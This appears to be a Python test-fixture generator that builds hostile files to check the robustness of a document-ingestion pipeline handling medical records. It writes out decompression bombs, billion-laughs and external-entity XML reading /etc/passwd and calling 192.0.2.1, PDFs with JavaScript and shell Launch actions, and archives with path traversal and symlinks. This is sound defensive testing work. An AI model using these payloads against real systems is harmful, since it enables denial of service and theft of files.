"""Files made to harm whoever reads them: one maker for each, by name. Seedable; none is kept in the repository."""

from __future__ import annotations

import base64
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Collection
from pathlib import Path

Maker = Callable[[random.Random], bytes]
MAKERS: dict[str, Maker] = {}
ENDINGS = (
    ".pdf",
    ".txt",
    ".docx",
    ".rtf",
    ".odt",
    ".html",
    ".xml",
    ".hl7",
    ".tif",
    ".jpg",
    ".png",
    ".heic",
    ".bmp",
    ".gif",
    ".webp",
)
MORE_ENDINGS = (".eml", ".msg", ".zip", ".doc", ".xls", ".json", ".csv", ".dcm", ".ccda")


def _maker(name: str) -> Callable[[Maker], Maker]:
    def put(made: Maker) -> Maker:
        MAKERS[name] = made
        return made

    return put


def make(folder: Path, seed: int = 1, *, names: Collection[str] = ()) -> list[Path]:
    """Write the named files (all) into a folder; each maker has a chance of its own, so that one more changes no other."""
    folder.mkdir(parents=True, exist_ok=True)
    made = []
    for name, maker in MAKERS.items():
        if not names or name in names:
            path = folder / name
            path.write_bytes(maker(random.Random(f"{seed} {name}")))
            made.append(path)
    return made


def pdf(*objects: bytes, root: int = 1, header: bytes = b"%PDF-1.7\n") -> bytes:
    """A PDF of numbered objects, the first a catalog."""
    out, places = bytearray(header), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, root, start))


def stream(data: bytes, more: bytes = b"", length: int | None = None) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (more, len(data) if length is None else length, data)


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
WORDS = b"BT /F 12 Tf 72 700 Td (The worker has neck pain.) Tj ET"


def page(content: int = 4, more: bytes = b"", resources: bytes = b"/Font<</F 5 0 R>>") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents %d 0 R/Resources<<%s>>%s>>" % (content, resources, more)


def one_page(content: bytes, *more: bytes, catalog: bytes = CATALOG, **of_page: bytes) -> bytes:
    return pdf(catalog, PAGES, page(4, **of_page), content, FONT, *more)


@_maker("flate-bomb.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(zlib.compress(b" " * 300_000_000, 9), b"/Filter/FlateDecode"))


@_maker("flate-bomb-twice.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(zlib.compress(zlib.compress(b"q " * 250_000_000, 9), 9), b"/Filter[/FlateDecode/FlateDecode]"))


@_maker("forms-in-forms.pdf")
def _(chance: random.Random) -> bytes:
    forms = [
        stream(
            b" ".join([b"/X Do"] * 10),
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (at + 1),
        )
        for at in range(6, 20)
    ]
    return one_page(stream(b"/X Do " * 10), *forms, stream(WORDS, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
                    resources=b"/Font<</F 5 0 R>>/XObject<</X 6 0 R>>")  # fmt: skip


@_maker("looped-page-tree.pdf")
def _(chance: random.Random) -> bytes:
    return pdf(
        CATALOG, b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 9>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>"
    )


@_maker("million-objects.pdf")
def _(chance: random.Random) -> bytes:
    return pdf(CATALOG, PAGES, page(), stream(WORDS), FONT, *([b"<<>>"] * 1_000_000))


@_maker("hundred-thousand-pages.pdf")
def _(chance: random.Random) -> bytes:
    number = 100_000
    kids = b" ".join(b"%d 0 R" % (at + 5) for at in range(number))
    tiny = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 3 0 R>>"
    return pdf(CATALOG, b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, number), stream(b"n"), FONT, *([tiny] * number))


@_maker("count-that-lies.pdf")
def _(chance: random.Random) -> bytes:
    return pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", page(), stream(WORDS), FONT)


@_maker("wrong-lengths.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(WORDS, length=4_294_967_295))


@_maker("negative-length.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(WORDS, length=-5))


@_maker("script.pdf")
def _(chance: random.Random) -> bytes:
    script = b"<</S/JavaScript/JS(app.launchURL\\('file:///tmp/imr-was-here'\\); app.alert\\('x'\\);)>>"
    return one_page(stream(WORDS), catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s/AA<</WC %s>>>>" % (script, script))


@_maker("launch.pdf")
def _(chance: random.Random) -> bytes:
    launch = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c echo x > imr-was-here)>>>>"
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A %s>>]" % launch
    return one_page(stream(WORDS), catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % launch, more=link)


@_maker("remote.pdf")
def _(chance: random.Random) -> bytes:
    act = b"<</S/URI/URI(http://192.0.2.1/imr)>>"
    ref = b"/Ref<</F<</FS/URL/F(http://192.0.2.1/a.pdf)>>>>"
    outside = stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + ref)
    return one_page(stream(WORDS), outside, catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % act)


@_maker("huge-picture.pdf")
def _(chance: random.Random) -> bytes:
    sides = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
    image = stream(zlib.compress(b"\0" * 20_000_000, 9), sides +
                   b"/ColorSpace/DeviceRGB/Filter/FlateDecode")  # fmt: skip
    return one_page(stream(b"612 0 0 792 0 0 cm /I Do"), image, resources=b"/XObject<</I 6 0 R>>")


@_maker("huge-page.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(WORDS), more=b"/UserUnit 75000").replace(b"[0 0 612 792]", b"[0 0 2000000 2000000]")


@_maker("nested-arrays.pdf")
def _(chance: random.Random) -> bytes:
    return one_page(stream(b"[" * 200_000 + b"]" * 200_000), b"[" * 100_000 + b"]" * 100_000)


@_maker("font-that-crashes.pdf")
def _(chance: random.Random) -> bytes:
    broken = b"\0\1\0\0\0\x0a" + chance.randbytes(6) + b"glyf" + chance.randbytes(3000)
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 255/Widths[%s]/FontDescriptor 7 0 R>>" % (
        b"500 " * 256
    )
    descriptor = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 8 0 R/FontBBox[0 0 9999999 9999999]/Ascent 1e38>>"
    return one_page(stream(WORDS.replace(b"/F", b"/G")), font, descriptor, stream(broken, b"/Length1 99999999"),
                    resources=b"/Font<</G 6 0 R>>")  # fmt: skip


@_maker("to-unicode-bomb.pdf")
def _(chance: random.Random) -> bytes:
    ranges = b"".join(b"<0000> <ffff> <%s>\n" % (b"0041" * 200) for _ in range(400))
    cmap = b"/CIDInit /ProcSet findresource begin begincmap 400 beginbfrange\n%sendbfrange endcmap end" % ranges
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 7 0 R>>"
    return one_page(stream(WORDS.replace(b"/F", b"/G") * 2000), font, stream(cmap), resources=b"/Font<</G 6 0 R>>")


@_maker("cross-references-in-a-loop.pdf")
def _(chance: random.Random) -> bytes:
    made = one_page(stream(WORDS))
    start = made.rindex(b"xref\n0")
    return made.replace(b"trailer<<", b"trailer<</Prev %d" % start)


@_maker("attachment-bomb.pdf")
def _(chance: random.Random) -> bytes:
    bomb = stream(zlib.compress(b"\0" * 900_000_000, 9), b"/Type/EmbeddedFile/Filter/FlateDecode")
    names = b"<</Names[(..\\\\..\\\\evil.txt)<</Type/Filespec/F(../../../etc/evil.txt)/EF<</F 6 0 R>>>>]>>"
    return one_page(stream(WORDS), bomb, catalog=b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles %s>>>>" % names)


@_maker("random-after-header.pdf")
def _(chance: random.Random) -> bytes:
    return b"%PDF-1.7\n" + chance.randbytes(200_000)


def zipped(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


@_maker("bomb.zip")
def _(chance: random.Random) -> bytes:
    return zipped(*((f"{at}.txt", b"\0" * 100_000_000) for at in range(8)))


@_maker("zip-in-zip-in-zip.zip")
def _(chance: random.Random) -> bytes:
    data = zipped(("a.txt", b"\0" * 10_000_000))
    for level in range(12):
        data = zipped(*((f"{level}-{at}.zip", data) for at in range(8)))
    return data


@_maker("names-that-climb.zip")
def _(chance: random.Random) -> bytes:
    names = (
        "../../../../tmp/imr-was-here",
        "/tmp/imr-was-here",
        "C:\\imr-was-here",
        "..\\..\\x.txt",
        "a/\0b.txt",
        "\u202egpj.exe",
    )
    return zipped(*((name, b"The worker has neck pain.") for name in names))


@_maker("symbolic-link.zip")
def _(chance: random.Random) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("link.txt/x", "y")
    return buffer.getvalue()


@_maker("four-gigabytes-declared.zip")
def _(chance: random.Random) -> bytes:
    data = bytearray(zipped(("a.txt", b"neck pain")))
    at = data.rindex(b"PK\1\2")
    data[at + 24 : at + 28] = data[22:26] = b"\xff\xff\xff\xfe"
    return bytes(data)


@_maker("seventy-thousand-names.zip")
def _(chance: random.Random) -> bytes:
    return zipped(*((f"{at}.txt", b"x") for at in range(70_000)))


@_maker("the-same-bytes-again.zip")
def _(chance: random.Random) -> bytes:
    data = bytearray(zipped(("a.txt", b"\0" * 50_000_000)))
    at, end = data.rindex(b"PK\1\2"), data.rindex(b"PK\5\6")
    entry = bytes(data[at:end])
    central = b"".join(entry.replace(b"a.txt", b"%05d" % number) for number in range(2_000))
    return bytes(data[:at]) + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2_000, 2_000, len(central), at, 0)


@_maker("bomb.docx")
def _(chance: random.Random) -> bytes:
    body = b"<w:document xmlns:w='x'><w:body>" + b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 8_000_000
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", body))


@_maker("entities.docx")
def _(chance: random.Random) -> bytes:
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", LAUGHS))


@_maker("deep.docx")
def _(chance: random.Random) -> bytes:
    depth = 100_000
    body = b"<w:document xmlns:w='x'><w:body>" + b"<w:p>" * depth + b"</w:p>" * depth + b"</w:body></w:document>"
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", body))


@_maker("parts-in-a-loop.docx")
def _(chance: random.Random) -> bytes:
    relations = (
        b"<Relationships><Relationship Id='r' Type='x/officeDocument' Target='../../../../etc/passwd'/></Relationships>"
    )
    return zipped(("[Content_Types].xml", b"<Types/>"), ("word/x.xml", b"<x/>"), ("_rels/.rels", relations))


LAUGHS = (
    b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + at, b"&%c;" % (97 + at) * 10) for at in range(12))
    + b"]><ClinicalDocument>&m;</ClinicalDocument>"
)


@_maker("billion-laughs.xml")
def _(chance: random.Random) -> bytes:
    return LAUGHS


@_maker("outside-entity.xml")
def _(chance: random.Random) -> bytes:
    return b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://192.0.2.1/">]><x>&f;&h;</x>'


@_maker("deep.xml")
def _(chance: random.Random) -> bytes:
    return b"<?xml version='1.0'?>" + b"<a>" * 300_000 + b"x" + b"</a>" * 300_000


@_maker("deep.rtf")
def _(chance: random.Random) -> bytes:
    return b"{\\rtf1 " + b"{" * 1_000_000 + b"x"


@_maker("binary.rtf")
def _(chance: random.Random) -> bytes:
    return b"{\\rtf1 {\\pict\\bin9999999999 " + chance.randbytes(1000) + b"}\\u99999999? neck pain}"


@_maker("deep.html")
def _(chance: random.Random) -> bytes:
    return b"<html><body>" + b"<div style='display:none'><table><tr><td>" * 100_000 + b"x"


@_maker("script.html")
def _(chance: random.Random) -> bytes:
    return b"<html><script>fetch('http://192.0.2.1/')</script><img src=file:///etc/passwd onerror=x()>neck"


@_maker("unclosed.html")
def _(chance: random.Random) -> bytes:
    return b"<html>" + b"<!--" * 200_000 + b"<a " * 200_000 + b"&" * 200_000


@_maker("mails-in-mails.eml")
def _(chance: random.Random) -> bytes:
    mail = b"From: a@b\nTo: c@d\nSubject: x\nMIME-Version: 1.0\n\nneck pain"
    for level in range(400):
        head = b"From: a@b\nSubject: %d\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n" % level
        mail = head + mail
    return mail


@_maker("boundaries.eml")
def _(chance: random.Random) -> bytes:
    head = b"From: a@b\nTo: c@d\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
    return head + b"--x\nContent-Type: multipart/mixed; boundary=x\n\n" * 100_000


@_maker("attachments.eml")
def _(chance: random.Random) -> bytes:
    part = (
        b'--x\nContent-Type: application/octet-stream; name="../../%d.txt"\nContent-Transfer-Encoding: base64\n\nbmVjaw==\n'
    )
    head = b"From: a@b\nTo: c@d\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n"
    return head + b"".join(part % at for at in range(5_000)) + b"--x--"


@_maker("sectors-in-a-loop.msg")
def _(chance: random.Random) -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 10
    head += struct.pack("<IIIIIIIII", 1, 0, 0, 4096, 0, 1, 0, 0, 0)
    return (head + struct.pack("<I", 0) * 109).ljust(512, b"\0") + struct.pack("<I", 0) * 128 + struct.pack("<I", 1) * 128


@_maker("bomb.png")
def _(chance: random.Random) -> bytes:
    return _png(60_000, 60_000, zlib.compress(b"\0" * 50_000_000, 9))


@_maker("pixels-that-fit-not.png")
def _(chance: random.Random) -> bytes:
    return _png(2_147_483_647, 2_147_483_647, b"")


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@_maker("text-bomb.png")
def _(chance: random.Random) -> bytes:
    body = b"Comment\0\0" + zlib.compress(b"\0" * 500_000_000, 9)
    made = _png(9, 9, zlib.compress(b"\0" * 252, 9))
    return (
        made[:33] + struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body)) + made[33:]
    )


@_maker("bomb.tif")
def _(chance: random.Random) -> bytes:
    return _tiff(
        [
            (256, 4, 65_000),
            (257, 4, 65_000),
            (258, 3, 1),
            (259, 3, 4),
            (262, 3, 0),
            (273, 4, 8),
            (278, 4, 65_000),
            (279, 4, 4),
        ]
    )


@_maker("frames-in-a-loop.tif")
def _(chance: random.Random) -> bytes:
    return _tiff(
        [(256, 4, 9), (257, 4, 9), (258, 3, 1), (259, 3, 1), (262, 3, 0), (273, 4, 8), (278, 4, 9), (279, 4, 18)], after=12
    )


@_maker("strips-that-lie.tif")
def _(chance: random.Random) -> bytes:
    return _tiff(
        [
            (256, 4, 900),
            (257, 4, 900),
            (258, 3, 8),
            (259, 3, 5),
            (262, 3, 1),
            (273, 4, 4_294_967_000),
            (279, 4, 4_294_967_000),
        ]
    )


def _tiff(tags: list[tuple[int, int, int]], after: int = 0) -> bytes:
    entries = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
    return b"II*\0" + struct.pack("<I", 12) + b"\0\1\0\1" + struct.pack("<H", len(tags)) + entries + struct.pack("<I", after)


@_maker("many-frames.tif")
def _(chance: random.Random) -> bytes:
    frames, out = 200_000, bytearray(b"II*\0\x08\0\0\0")
    for at in range(frames):
        here = len(out)
        entries = ((256, 4, 9), (257, 4, 9), (258, 3, 1), (259, 3, 1), (262, 3, 0), (273, 4, 8), (279, 4, 2))
        out += struct.pack("<H", 7) + b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in entries)
        out += struct.pack("<I", here + 90 if at + 1 < frames else 0)
    return bytes(out)


@_maker("bomb.gif")
def _(chance: random.Random) -> bytes:
    return b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;"


@_maker("huge.bmp")
def _(chance: random.Random) -> bytes:
    return b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 2_000_000, 2_000_000, 1, 24, 0, 0, 0, 0, 0, 0)


@_maker("boxes.heic")
def _(chance: random.Random) -> bytes:
    return struct.pack(">I", 24) + b"ftypheic\0\0\0\0mif1heic" + (struct.pack(">I", 0xFFFFFFFF) + b"meta") * 50_000


@_maker("segments.hl7")
def _(chance: random.Random) -> bytes:
    return b"MSH|^~\\&|A\r" + b"OBX|1|ST|a^b||" + b"\\X" + b"41" * 5_000 + b"\\" * 100_000 + b"\rOBX" * 100_000


@_maker("line.txt")
def _(chance: random.Random) -> bytes:
    return b"x" * 15_000_000


@_maker("zeros.txt")
def _(chance: random.Random) -> bytes:
    return b"\0" * 5_000_000


@_maker("marks.txt")
def _(chance: random.Random) -> bytes:
    return b"\xff\xfe\0\0" + b"\xff" * 4_001


@_maker("links.tar")
def _(chance: random.Random) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, target in (("a.txt", "/etc/passwd"), ("b.txt", "../../etc/passwd")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.SYMTYPE, target
            archive.addfile(link)
        device = tarfile.TarInfo("c.txt")
        device.type = tarfile.CHRTYPE
        archive.addfile(device)
    return buffer.getvalue()


@_maker("bomb.gz")
def _(chance: random.Random) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([*(packer.compress(b"\0" * 10_000_000) for _ in range(200)), packer.flush()])


@_maker("mail-with-a-bomb.eml")
def _(chance: random.Random) -> bytes:
    data = base64.encodebytes(zipped(("a.pdf", b"\0" * 200_000_000)))
    return (
        b"From: a@b\nTo: c@d\nMIME-Version: 1.0\nContent-Type: application/zip; name=a.zip\n"
        b"Content-Transfer-Encoding: base64\n\n" + data
    )


for _ending in (*ENDINGS, *MORE_ENDINGS):
    MAKERS[f"random{_ending}"] = lambda chance: chance.randbytes(20_000)
    MAKERS[f"one-byte{_ending}"] = lambda chance: b"\0"
MAKERS["nothing.pdf"] = lambda chance: b""
